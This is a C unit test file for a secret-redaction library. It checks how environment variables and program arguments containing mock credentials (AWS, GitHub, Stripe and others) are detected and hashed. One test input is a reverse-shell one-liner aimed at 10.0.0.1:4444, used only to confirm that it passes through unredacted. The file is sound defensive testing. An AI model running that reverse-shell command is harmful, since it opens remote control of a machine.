/* Secrets: what is taken for one, what is not, and what stands for it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/cleanup.h"
#include "crypto/redact.h"
#include "crypto/secret_shapes.h"

/* Shapes are those of real ones, the characters are not.  In two pieces, so that no scanner of sources takes them for real. */
static const char *const secrets[] = {
	"AWS_ACCESS_KEY_ID=AK"
	"IAQ3EGRIYJ7NTKZ2WL",
	"X=AK"
	"IAQ3EGRIYJ7NTKZ2WL",
	"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzKEY",
	"FOO=kWcrlUX5JEDGM/LtmEENI/aVmYvHNif5zB+d9+ct",
	"AWS_SESSION_TOKEN=IQoJb3JpZ2lu"
	"X2VjEOT//////////wEaCXVzLWVhc3QtMSJHMEUCIQDx",
	"WHATEVER=IQoJb3JpZ2lu"
	"X2VjEOT//////////wEaCXVzLWVhc3QtMSJHMEUCIQDx",
	"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI=/v2/credentials/b5e4e7d2-4d1c-4a6c-9d6e-1d0f3a4b5c6d",
	"AWS_CONTAINER_AUTHORIZATION_TOKEN=abc",
	"GH=gh"
	"p_16C7e42F292c6912E7710c838347Ae178B4a",
	"A=github_"
	"pat_11ABCDEFG0abcdefghijkl_MNOPQRSTUVWXYZ0123456789",
	"CI=gl"
	"pat-x1y2z3A4B5C6D7E8F9G0",
	"S=xo"
	"xb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
	"HOOK=https://hooks.slack"
	".com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
	"PAY=sk_"
	"live_4eC39HqLyjWDarjtT1zdp7dc",
	"PAY2=rk_"
	"live_4eC39HqLyjWDarjtT1zdp7dc",
	"G=AI"
	"zaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY",
	"G2=ya"
	"29.a0AfH6SMBx1234567890abcdefghij",
	"G3=GOC"
	"SPX-1234567890abcdefghijklmnop",
	"N=npm"
	"_abcdefghijklmnopqrstuvwxyz0123456789",
	"P=pypi"
	"-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAw",
	"MAIL=SG"
	".ngeVfQFYQlKU0ufo8x5d1A.TwL2iGABf9DHoTf09kqeF8tAmbihYzrnopKc-1s5cr",
	"AI=sk-"
	"proj-abcdefghijklmnopqrstuvwxyz",
	"VAULT=hvs"
	".CAESIJ1234567890abcdefghijklmn",
	"J=ey"
	"JhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
	"PASSWORD=hunter2",
	"DB_PASS=x",
	"PGPASSWORD=correct horse",
	"MYSQL_PWD=p",
	"dbPassword=p",
	"REDIS_AUTH=p",
	"SECRET_KEY_BASE=0123456789abcdef",
	"DJANGO_SECRETKEY=a",
	"STRIPE_KEY=a",
	"SESSION_COOKIE=a",
	"SENTRY_DSN=https://abc@o1.ingest.sentry.io/2",
	"TLS=-----BEGIN RSA PRIVATE"
	" KEY-----\nMIIEpAIBAAKCAQEA",
	"TLS2=-----BEGIN PRIVATE"
	" KEY-----\\nMIIEpAIBAAKCAQEA",
	"DATABASE_URL=postgres://app:s3cr3t@db:5432/app",
	"AMQP=amqps://u:p%40ss@mq/vhost",
	"MONGO=mongodb+srv://root:example@cluster0.mongodb.net/?retryWrites=true",
	"PROXY=http://user:p@ss@proxy:3128",
	"ADO=Server=tcp:x.database.windows.net;User ID=a;Password=b;Encrypt=true",
	"AZURE_STORAGE=DefaultEndpointsProtocol=https;AccountName=a;AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1==",
	"BLOB=https://a.blob.core.windows.net/c/f?sv=2020&sig=abcdefghijklmnop%3D",
	"S3=https://b.s3.amazonaws.com/k?X-Amz-Signature=0123456789abcdef",
	"JAVA_OPTS=-Xmx1g -Djavax.net.ssl.keyStorePassword=changeit",
	"HEADERS=Authorization: Bearer abcdefghijklmnopqrstuvwx",
	"OTEL_EXPORTER_OTLP_HEADERS=api-key=0123456789",
	"RANDOM_BASE64=3q2+7wR5dKx9Zf0LbT8mQ1yVnC4hJ6sPuE==",
};

static const char *const open[] = {
	"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
	"LS_COLORS=rs=0:di=01;34:ln=01;36:mh=00:pi=40;33:so=01;35:do=01;35:bd=40;33;01:*.tar=01;31:*.jpg=01;35",
	"HOME=/root",
	"PWD=/srv",
	"OLDPWD=/",
	"SHLVL=1",
	"TERM=xterm-256color",
	"LANG=en_US.UTF-8",
	"HOSTNAME=ip-10-0-1-23.eu-central-1.compute.internal",
	"HOSTNAME=1f2e3d4c5b6a",
	"REQUEST_ID=6fa459ea-ee8a-3ca4-894e-db77e160355e",
	"GIT_COMMIT=d670460b4b4aece5915caf5c68d12f560a9fe3e4",
	"IMAGE=nginx@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	"PYTHON_SHA256=0e5b0a8b4f9bf8c3e4b9b5b9d2d5a4a9f1e2d3c4b5a69788796a5b4c3d2e1f00",
	"GPG_KEY_FILE=/usr/share/keyrings/debian-archive-keyring.gpg",
	"GIT_AUTHOR_NAME=A U Thor",
	"SSH_AUTH_SOCK=/tmp/ssh-XXXXXXAbCdEf/agent.123",
	"AWS_WEB_IDENTITY_TOKEN_FILE=/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
	"PGPASSFILE=/root/.pgpass",
	"PASSWORD_MIN_LENGTH=12",
	"TOKEN_TTL=3600",
	"MONKEY=banana",
	"KEYBOARD=de",
	"COMPASS=north",
	"ECS_CONTAINER_METADATA_URI_V4=http://169.254.170.2/v4/0b3e8d2f4a5c4d6e8f90a1b2c3d4e5f6-1234567890",
	"AWS_REGION=eu-central-1",
	"AWS_EXECUTION_ENV=AWS_ECS_FARGATE",
	"URL=https://example.com:8443/a/b?x=1&y=2",
	"PROXY=http://proxy.example.com:3128",
	"NO_PROXY=localhost,127.0.0.1,169.254.169.254",
	"GOPROXY=https://proxy.golang.org,direct",
	"JAVA_OPTS=-Xmx512m -XX:+UseG1GC -Dfile.encoding=UTF-8",
	"MAVEN=org.apache.maven.plugins:maven-compiler-plugin:3.8.1",
	"CLASS=com.example.service.UserAccountControllerFactoryBean",
	"NODE_OPTIONS=--max-old-space-size=4096",
	"PS1=\\u@\\h:\\w\\$ ",
	"LESSOPEN=| /usr/bin/lesspipe %s",
	"VERSION=2.36-9+deb12u10",
	"POD=my-app-7d4b9c6f5d-x2k8p",
	"ARN=arn:aws:ecs:eu-central-1:123456789012:task/cluster/0b3e8d2f4a5c4d6e8f90a1b2c3d4e5f6",
	"BUCKET=my-company-production-assets-2024",
	"MODULE=github.com/aws/aws-sdk-go-v2/service/dynamodb",
	"INVOCATION_ID=0b3e8d2f4a5c4d6e8f90a1b2c3d4e5f6",
	"LD_LIBRARY_PATH=/opt/App1/Lib2/Bin3:/usr/lib64",
	"SOURCE=/opt/MyApp1/Lib2Core/Bin3x64/Plugin4",
	"DEBIAN_FRONTEND=noninteractive",
	"LC_IDENTIFICATION=de_DE.UTF-8",
	"TZ=Europe/Berlin",
	"EMPTY_TOKEN=",
	"PUBLIC=-----BEGIN CERTIFICATE-----",
	"MESSAGE=The quick brown fox jumps over the lazy dog 42 times",
};

static bool is_secret(const char *variable)
{
	const char *equals = strchr(variable, '=');
	return mw_redact_is_secret(variable, (size_t)(equals - variable), equals + 1, strlen(equals + 1));
}

static void secrets_are_known_by_name_and_shape(void **state)
{
	(void)state;
	char missed[8192] = "";
	for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++)
		if (!is_secret(secrets[i])) {
			size_t n = strlen(missed);
			(void)snprintf(missed + n, sizeof(missed) - n, "\nmissed: %s", secrets[i]);
		}
	for (size_t i = 0; i < sizeof(open) / sizeof(open[0]); i++)
		if (is_secret(open[i])) {
			size_t n = strlen(missed);
			(void)snprintf(missed + n, sizeof(missed) - n, "\ntaken for one: %s", open[i]);
		}
	if (*missed)
		fail_msg("%s", missed);
}

static const char *value(const char *variable)
{
	static char text[1024];
	MW_AUTO_FREE char *redacted = NULL;
	size_t n = 0;
	redacted = mw_redact_environment(variable, strlen(variable) + 1, &n);
	assert_non_null(redacted);
	(void)snprintf(text, sizeof(text), "%s", strchr(redacted, '=') + 1);
	return text;
}

static void a_hash_stands_for_a_secret(void **state)
{
	(void)state;
	/* The first digits of sha256sum's, of what cannot be guessed. */
	assert_string_equal(value("A_TOKEN=kWcrlUX5JEDGM/LtmEENI/aVmYvHNif5zB+d9+ct"), "[redacted:95cbff46]");
	char first[64];
	(void)snprintf(first, sizeof(first), "%s", value("PASSWORD=hunter2"));
	assert_int_equal(strlen(first), strlen("[redacted:01234567]"));
	assert_int_equal(strncmp(first, "[redacted:", 10), 0);
	/* Of what people make up it is not. */
	assert_string_not_equal(first, "[redacted:f52fbd32]");
	assert_string_equal(value("OTHER_PASSWORD=hunter2"), first);
	assert_string_not_equal(value("PASSWORD=hunter3"), first);
}

static const char *arguments(const char *argv, size_t bytes)
{
	static char text[1024];
	size_t n = 0;
	char *redacted = mw_redact_arguments(argv, bytes, &n);
	assert_non_null(redacted);
	assert_in_range(n, 1, sizeof(text));
	for (size_t i = 0; i + 1 < n; i++)
		text[i] = redacted[i];
	text[n - 1] = '\0';
	for (size_t i = 0; i + 1 < n; i++) {
		if (!text[i])
			text[i] = ' ';
		/* Digits differ from boot to boot. */
		if (i >= 10 && memcmp(text + i - 10, "[redacted:", 10) == 0)
			memset(text + i, '#', 8);
	}
	free(redacted);
	return text;
}

#define ARGUMENTS(text) arguments(text, sizeof(text))

static void arguments_keep_what_is_no_secret(void **state)
{
	(void)state;
	assert_string_equal(ARGUMENTS("ls\0-la\0/etc/passwd"), "ls -la /etc/passwd");
	assert_string_equal(ARGUMENTS("x\0--password=hunter2\0--user=me"),
			    "x --password=[redacted:########] --user=me");
	assert_string_equal(ARGUMENTS("x\0--password\0hunter2\0me"), "x --password [redacted:########] me");
	assert_string_equal(ARGUMENTS("x\0--password\0--user\0me"), "x --password --user me");
	assert_string_equal(ARGUMENTS("psql\0postgres://app:pw@db/x"), "psql postgres://app:[redacted:########]@db/x");
	assert_string_equal(ARGUMENTS("curl\0-H\0Authorization: Bearer abcdefghijklmnop\0http://h/"),
			    "curl -H Authorization: Bearer [redacted:########] http://h/");
	assert_string_equal(ARGUMENTS("sh\0-c\0PGPASSWORD=a psql -h b; MYSQL_PWD=c mysql"),
			    "sh -c PGPASSWORD=[redacted:########] psql -h b; MYSQL_PWD=[redacted:########] mysql");
	assert_string_equal(ARGUMENTS("git\0clone\0https://x:gh"
				      "p_16C7e42F292c6912E7710c838347Ae178B4a@github.com/a/b"),
			    "git clone https://x:[redacted:########]@github.com/a/b");
	assert_string_equal(ARGUMENTS("echo\0gh"
				      "p_16C7e42F292c6912E7710c838347Ae178B4a,x"),
			    "echo [redacted:########],x");
	/* Random alone is not enough here: programs are given hashes, names of files and parts of scripts. */
	assert_string_equal(ARGUMENTS("x\0kWcrlUX5JEDGM/LtmEENI/aVmYvHNif5zB+d9+ct"),
			    "x kWcrlUX5JEDGM/LtmEENI/aVmYvHNif5zB+d9+ct");
	assert_string_equal(ARGUMENTS("bash\0-c\0bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
			    "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
	assert_string_equal(ARGUMENTS("keytool\0-storepass\0x"), "keytool -storepass x");
}

static void plain_is_plain_but_for_our_own(void **state)
{
	(void)state;
	static const char own[] = "enrol-me";
	mw_redact_allow_plain(true);
	assert_string_equal(value("PASSWORD=hunter2"), "hunter2");
	assert_string_equal(ARGUMENTS("x\0--password=hunter2"), "x --password=hunter2");
	assert_int_equal(mw_redact_register(own, sizeof(own) - 1), 0);
	assert_int_equal(strncmp(value("ANYTHING=xenrol-mex"), "[redacted:", 10), 0);
	assert_string_equal(ARGUMENTS("x\0-Denrol-me;enrol-me"), "x -D[redacted:########];[redacted:########]");
	mw_redact_allow_plain(false);
	assert_string_equal(value("LANG=C"), "C");
	assert_int_equal(mw_redact_register("", 0), -22);
}

/* Xorshift: the same numbers at every run. */
static uint32_t next(uint32_t *random)
{
	*random ^= *random << 13;
	*random ^= *random >> 17;
	*random ^= *random << 5;
	return *random;
}

/* Whatever the bytes: nothing is read that is not there (the sanitizers watch), and what comes out is bounded. */
static void hostile_bytes_are_survived(void **state)
{
	(void)state;
	static const char alphabet[] = "aA0=:/@-.;&\"' \n\0eyJghp_AKIA://Bearer password=-----BEGIN PRIVATE KEY-----";
	char text[600];
	uint32_t random = 1;
	for (unsigned round = 0; round < 3000; round++) {
		size_t n = next(&random) % sizeof(text);
		for (size_t i = 0; i < n; i++)
			text[i] = alphabet[next(&random) % sizeof(alphabet)];
		MW_AUTO_FREE char *exact = malloc(n ? n : 1);
		assert_non_null(exact);
		memcpy(exact, text, n);
		size_t bytes = 0;
		MW_AUTO_FREE char *env = mw_redact_environment(exact, n, &bytes);
		assert_non_null(env);
		MW_AUTO_FREE char *argv = mw_redact_arguments(exact, n, &bytes);
		assert_non_null(argv);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(secrets_are_known_by_name_and_shape), cmocka_unit_test(a_hash_stands_for_a_secret),
		cmocka_unit_test(arguments_keep_what_is_no_secret),    cmocka_unit_test(plain_is_plain_but_for_our_own),
		cmocka_unit_test(hostile_bytes_are_survived),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
